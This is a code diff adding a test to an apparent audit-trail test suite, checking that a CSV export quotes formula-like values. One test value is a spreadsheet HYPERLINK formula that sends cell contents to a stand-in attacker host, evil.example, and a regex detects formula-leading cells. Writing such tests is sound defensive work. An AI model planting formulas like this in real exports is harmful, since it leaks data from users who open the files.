@@ -187,6 +187,28 @@ describe.each(dialects)('the organization audit trail on $name', ({ postgres }) 
     expect(json.json()).toEqual({ items: listed.items, total: 2 });
   });
 
+  it('writes a formula-like actor, name or detail as text in the CSV (no spreadsheet formula)', async () => {
+    const formula = '=HYPERLINK("https://evil.example/?x="&A1,"open")';
+    const created = await h.request('POST', '/api/v1/projects', { name: formula });
+    expect(created.status).toBe(201);
+    await recordAudit(
+      h.services.store.db,
+      { entity: 'run', entityId: 'run_formula', action: 'reprocess', actor: '@SUM(1+1)', detail: {} },
+      t0 - 10,
+    );
+    const csv = await h.app.inject({
+      method: 'GET',
+      url: '/api/v1/audit/export?format=csv',
+      headers: { authorization: `Bearer ${h.token}` },
+    });
+    const rows = parseCsv(csv.body);
+    const projectRow = rows.find((row) => row[4] === 'project' && row[5] === created.json().id);
+    expect(projectRow?.[7]).toBe(`'${formula}`);
+    expect(rows.find((row) => row[5] === 'run_formula')?.[2]).toBe("'@SUM(1+1)");
+    // no cell a spreadsheet would evaluate: each formula-like one starts with the quote
+    for (const row of rows) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+@\t\r]|^-\D/);
+  });
+
   it('refuses an export wider than its bound with the count, and reads across batches in order', async () => {
     const db = h.services.store.db;
     for (let i = 0; i < 1005; i += 1)
